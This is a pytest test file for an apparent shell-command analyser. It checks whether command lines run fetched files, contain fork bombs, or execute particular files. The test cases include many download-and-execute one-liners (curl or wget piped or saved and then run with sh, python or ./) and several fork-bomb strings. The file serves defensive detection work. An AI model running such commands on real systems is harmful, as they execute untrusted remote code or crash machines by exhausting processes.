"""What is fetched and run in one line is seen together."""

import pytest

from bastion.command.effects_flow import RUN_FILE, all_effects
from bastion.command.extract import extract
from bastion.command.knowledge import Clause, Knowledge, Program

FETCH = Program(
    names=("curl", "wget"),
    effects=(
        Clause(effect="network.download", on="-o"),
        Clause(effect="network.download", on="operands"),
    ),
)
COPIES = (
    Program(
        names=("mv", "cp"),
        complete=True,
        effects=(Clause(effect="read", on="but-last"), Clause(effect="write", on="last")),
    ),
    Program(names=("cat", "gunzip", "tar"), effects=(Clause(effect="read", on="operands"),)),
    Program(names=("sh",), effects=(Clause(effect="execute.stdin", bare=True),)),
)
PYTHON = Program(names=("python",), effects=(Clause(effect=RUN_FILE, on="first"),))


def runs_fetched(text: str) -> bool:
    found = all_effects(extract(text), Knowledge([FETCH, *COPIES, PYTHON]))
    return any(e.name == "execute.network" for _, alone in found for e in alone)


@pytest.mark.parametrize(
    "text",
    [
        "wget http://h/x.sh; sh x.sh",
        "wget http://h/a/x; chmod 777 x",
        "cd /tmp && wget 'http://h/x?y=1' && ./x",
        "curl -o run http://h/x && bash ./run --now",
        "curl -o /tmp/run http://h/x; sudo /tmp/run",
        "curl http://h/x > z; sh -eo pipefail z",
        "curl http://h/x > z; sh < z",
        "curl http://h/x | gunzip | tee -a /dev/shm/z; . /dev/shm/z",
        "{ echo; curl http://h/x; } > z; sh z",
        "if true; then curl http://h/x; fi > z; sh z",
        "curl http://h/x > z; mv z y; cp y w; sh w",
        "curl http://h/x > z; cat z | gunzip > y; sh y",
        "curl http://h/z.gz > z.gz; gunzip z.gz; sh z",
        "curl http://h/x > z; cat z | sh",
        "curl http://h/x > z; python z",
        "wget http://h/x.tgz; tar xf x.tgz; ./x/install.sh",
        "wget http://h/x.tgz; tar xf x.tgz; cd x && ./run",
        "curl http://h/x | tar xz; cd x; nohup ./run &",
    ],
)
def test_running_what_was_fetched_is_an_effect(text):
    """By its name, or by the one under which it is kept."""
    assert runs_fetched(text)


@pytest.mark.parametrize(
    ("text", "is_bomb"),
    [
        ("f(){ f|f& };f", True),
        ("bomb() { bomb | bomb & }; bomb", True),
        ("f | g", False),
        (":(){ :|:& };:", True),
        ("f | f", False),
        ("f; f", False),
        ("f a | f b", False),
    ],
)
def test_what_is_piped_into_itself_is_a_bomb(text, is_bomb):
    """Nothing else does that."""
    found = all_effects(extract(text), Knowledge())
    assert is_bomb is any(e.name == "process.bomb" for _, alone in found for e in alone)


@pytest.mark.parametrize(
    "text",
    [
        "wget http://h/data.tar; tar xf data.tar",
        "sh x.sh; wget http://h/x.sh",
        "wget http://h/x.sh; sh other.sh",
        "sh x.sh",
        "wget http://h/; ls ./",
        "wget http://h/data.tar; bash x.sh data.tar",
        "curl http://h/x > /dev/null 2>&1; bash 1; bash null",
        "curl http://h/x; ls > z; sh z",
        "curl http://h/x > z; { ls; } > y; sh y",
        "curl http://h/x > z; mv w y; sh y",
        "curl http://h/x > z; cat w | sh",
        "wget http://h/data.tar; tar xf data.tar; python work/train.py data",
        "wget http://h/data.tar; tar xf data.tar; ./train data",
        "wget http://h/data.tar; tar xf data.tar; /opt/x/run data",
        "tar xf x.tgz; ./x/install.sh",
        "wget http://h/z; tar xf x.tgz; ./x/install.sh",
        "wget http://h/data; python train.py data",
    ],
)
def test_other_files_are_not(text):
    """Nor what was there before."""
    assert not runs_fetched(text)


def runs_file(text: str) -> list[str]:
    """The files that are run."""
    found = all_effects(extract(text), Knowledge([PYTHON]))
    return [e.on.text for _, alone in found for e in alone if e.name == RUN_FILE]


@pytest.mark.parametrize(
    ("text", "files"),
    [
        ("./x -a", ["./x"]),
        ("sudo ~/bin/x", ["~/bin/x"]),
        ("/home/ann/x; ../y", ["/home/ann/x", "../y"]),
        ("x.py", ["x.py"]),
        ("/opt/x/y", ["/opt/x/y"]),
        ("/usr/../home/x", ["/usr/../home/x"]),
        ("./usr/bin/x", ["./usr/bin/x"]),
        ("python sub/x.py", ["sub/x.py"]),
        ("python a.py; b.py", ["a.py", "b.py"]),
    ],
)
def test_a_file_that_nobody_installed_is_run_by_its_name(text, files):
    """Once, also where an interpreter takes it."""
    assert runs_file(text) == files


@pytest.mark.parametrize(
    "text", ["ls x.py", "/usr/bin/x", "/bin/x", "/opt/x/bin/y", "/snap/bin/x", "x=./y", "> ./x"]
)
def test_a_program_of_the_system_is_no_file_of_somebody(text):
    """Nor is a file that is only named."""
    assert runs_file(text) == []
